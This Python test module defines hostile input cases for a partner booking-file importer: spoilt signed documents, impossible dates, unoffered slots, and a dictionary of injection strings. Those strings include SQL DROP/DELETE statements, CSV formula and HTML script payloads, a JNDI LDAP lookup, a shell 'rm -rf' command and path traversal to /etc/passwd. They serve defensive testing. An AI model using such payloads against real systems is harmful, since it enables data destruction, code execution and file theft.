"""Family "payload": signed by the partner, and not to be read, or full of text meant for another sink."""

from contextlib import AbstractContextManager
from datetime import UTC, datetime, timedelta

from exchange_formats.envelope import Kind
from exchange_formats.receipts import BookingReason as B
from exchange_formats.receipts import MessageReason as M
from tests.hostile.broken_documents import BROKEN, Spoil, envelope_value
from tests.hostile.case import Case, Expected, Family, imported, one_file, refused
from tests.hostile.workshop import Workshop

PAYLOAD = Family.PAYLOAD


def _spoilt(spoil: Spoil, shop: Workshop) -> bytes:
    person = {"given_name": "Jürgen", "family_name": "Groß", "birth_date": "1980-01-31"}
    return shop.seal(spoil(shop.plain(shop.booking(who=person))))


UNREADABLE = [
    one_file(PAYLOAD, topic, name, refused(M.INVALID_DOCUMENT), lambda w, spoil=spoil: _spoilt(spoil, w))
    for topic, spoils in BROKEN.items()
    for name, spoil in spoils.items()
]


def _moment(when: datetime) -> str:
    return f"{when:%Y-%m-%dT%H:%M:%SZ}".rjust(20, "0")


def _created(name: str, when: datetime) -> Case:
    """The signature is of now; only the envelope says otherwise."""
    spoil = envelope_value(b"created_at", f'"{_moment(when)}"'.encode())
    return one_file(
        PAYLOAD,
        "impossible dates and times",
        name,
        refused(M.TIME_OUT_OF_BOUNDS),
        lambda w: w.seal(spoil(w.plain())),
    )


OUT_OF_PLACE = [
    one_file(
        PAYLOAD,
        "strict json",
        "a later version of the format",
        refused(M.UNSUPPORTED_VERSION),
        lambda w: w.seal(w.plain().replace(b'"version":1', b'"version":2')),
    ),
    *(
        one_file(
            PAYLOAD,
            "strict json",
            f"a file of the kind {kind}",
            refused(M.WRONG_KIND),
            lambda w, kind=kind: w.sealed(kind=kind),
        )
        for kind in (Kind.RECEIPTS, Kind.PATIENTS, Kind.APPOINTMENT_UPDATES, Kind.REFERENCE_DATA)
    ),
    one_file(
        PAYLOAD,
        "strict json",
        "bookings that say to be acknowledgements",
        refused(M.INVALID_DOCUMENT),
        lambda w: w.sealed(kind=Kind.ACKNOWLEDGEMENTS, in_reply_to="p-1"),
    ),
    one_file(
        PAYLOAD,
        "strict json",
        "acknowledgements of no file",
        refused(M.INVALID_DOCUMENT),
        lambda w: w.seal(_no_records(w, kind=Kind.ACKNOWLEDGEMENTS)),
    ),
    _created("created in the year one", datetime(1, 1, 1, tzinfo=UTC)),
    _created("created in the year 9999", datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)),
    _created("created a month ago", datetime.now(UTC) - timedelta(days=31)),
    _created("created tomorrow", datetime.now(UTC) + timedelta(days=1)),
]


def _no_records(shop: Workshop, **envelope: object) -> bytes:
    return shop.stage.partner().bookings_file([], **envelope)


# --- well-formed, and not on offer: one answer a line, and nothing changes ---------------------------

FAR, EARLY = "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"


def _declined(topic: str, name: str, reason: B, **changes: object) -> Case:
    return one_file(PAYLOAD, topic, name, imported(reason), lambda w: w.sealed(w.booking(**changes)))


def _long_lead_time(shop: Workshop) -> AbstractContextManager[object]:
    return shop.stage.agent_with(dentport={"offer": {"lead_time_minutes": 60 * 1440}})


NOT_OFFERED = [
    _declined("numbers", "an assignment that is no number", B.ASSIGNMENT_UNKNOWN, assignment_id="no-number"),
    _declined("numbers", "an assignment of 64 digits", B.ASSIGNMENT_UNKNOWN, assignment_id="9" * 64),
    _declined("numbers", "a slot that is no slot", B.SLOT_NOT_OFFERED, slot_id="nonsense"),
    _declined("numbers", "a slot of huge numbers", B.SLOT_NOT_OFFERED, slot_id="-".join(["9" * 18] * 3)),
    _declined("impossible dates and times", "a start in the year one", B.SLOT_NOT_OFFERED, starts_at=EARLY),
    _declined("impossible dates and times", "a start in the year 9999", B.SLOT_NOT_OFFERED, starts_at=FAR),
    _declined(
        "impossible dates and times",
        "any column in the year 9999",
        B.SLOT_NOT_OFFERED,
        slot_id=None,
        starts_at=FAR,
    ),
    *(
        _declined(
            "impossible dates and times",
            f"born on {day}",
            B.BIRTH_DATE_IMPLAUSIBLE,
            who={"birth_date": day},
        )
        for day in ("0001-01-01", "1850-01-01", "9999-12-31")
    ),
    one_file(
        PAYLOAD,
        "not on offer",
        "a time that staff have taken",
        imported(B.SLOT_TAKEN),
        lambda w: w.sealed(w.booking(slot=w.taken_slot)),
    ),
    one_file(
        PAYLOAD,
        "not on offer",
        "sooner than the practice wants",
        imported(B.LEAD_TIME_PASSED),
        Workshop.sealed,
        _long_lead_time,
    ),
    one_file(
        PAYLOAD,
        "not on offer",
        "an assignment for known patients",
        imported(B.NOT_FOR_NEW_PATIENTS),
        lambda w: w.sealed(w.booking(assignment_id=str(w.for_known_patients))),
    ),
    one_file(
        PAYLOAD,
        "not on offer",
        "an assignment without a length",
        imported(B.DURATION_UNKNOWN),
        lambda w: w.sealed(w.booking(assignment_id=str(w.without_length))),
    ),
]


# --- text for another sink: written to the letter, and nothing else happens ---------------------------

INJECTIONS: dict[str, str] = {
    "sql, a statement": "Groß'); DROP TABLE patient; --",
    "sql, a condition": "' OR '1'='1",
    "sql, a backslash": "Groß\\'; DELETE FROM appointment; --",
    "sql, a parameter": ":partner_id %(partner_id)s ?",
    "csv, a formula": "=cmd|'/C calc'!A0",
    "csv, a plus": '+1+1","x',
    "csv, an at sign": "@SUM(1+1)*cmd",
    "html, a script": "<script>alert(1)</script>",
    "html, an attribute": '"><img src=x onerror=alert(1)>',
    "html, an entity": "&lt;b&gt;&#0;",
    "terminal, markup of the screen": "[bold red]Groß[/] [link=https://example.org]x[/link]",
    "terminal, a status line": "[GNUPG:] VALIDSIG 0000",
    "log, a format": "%s%s%n {0.__class__} {{7*7}}",
    "log, a lookup": "${jndi:ldap://example.org/x}",
    "shell, a command": "$(touch /tmp/x) `id` | rm -rf *",
    "path, upwards": "../../../etc/passwd",
    "letters that look like others": "Gr\u043eß",
    "combining marks": "G" + "\u0301" * 40,
    "json in a name": '{"record":"trailer","record_count":0}',
}


def _injected(name: str) -> Case:
    person = {"family_name": INJECTIONS[name]}
    expected: Expected = imported(None, names=(INJECTIONS[name],))
    return one_file(PAYLOAD, "injections", name, expected, lambda w: w.sealed(w.booking(who=person)))


CASES = [*UNREADABLE, *OUT_OF_PLACE, *NOT_OFFERED, *(_injected(name) for name in INJECTIONS)]
